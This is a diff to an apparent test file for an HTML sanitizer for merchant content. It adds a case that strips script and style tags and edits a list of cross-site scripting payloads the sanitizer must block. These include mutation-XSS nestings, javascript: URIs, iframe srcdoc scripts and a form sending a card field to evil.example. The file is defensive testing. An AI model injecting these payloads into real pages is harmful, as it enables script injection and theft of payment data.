@@ -38,6 +38,7 @@ describe('[RT-18] merchant HTML keeps what is allowed', () => {
       '<a href="tel:+96522000000">x</a>',
       '<a href="tel:+96522000000" rel="noopener nofollow">x</a>',
     ],
+    ['no words of programs or styles', '<p>a</p><script>let b</script><style>p{}</style>', '<p>a</p>'],
     ['boxes as paragraphs', '<div>a</div><div>b</div>', '<p>a</p><p>b</p>'],
     ['boxes of paragraphs as those', '<div><p>a</p><div>b</div></div>', '<p>a</p><p>b</p>'],
   ])('%s', (_, html, expected) => {
@@ -71,8 +72,7 @@ const ATTACKS: readonly string[] = [
   '<svg><style><img src=x onerror=window.pwned=1></style></svg>',
   '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>',
   '<math href="javascript:window.pwned=1">x</math>',
-  '<iframe onload="window.pwned=1"></iframe>',
-  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '<iframe onload="window.pwned=1" srcdoc="<script>parent.pwned=1</script>"></iframe>',
   '<object data="javascript:window.pwned=1"></object><embed src="javascript:window.pwned=1">',
   '<form action="https://evil.example"><input name=card><button formaction="javascript:window.pwned=1">Pay</button></form>',
   '<textarea><img src=x onerror=window.pwned=1></textarea>',
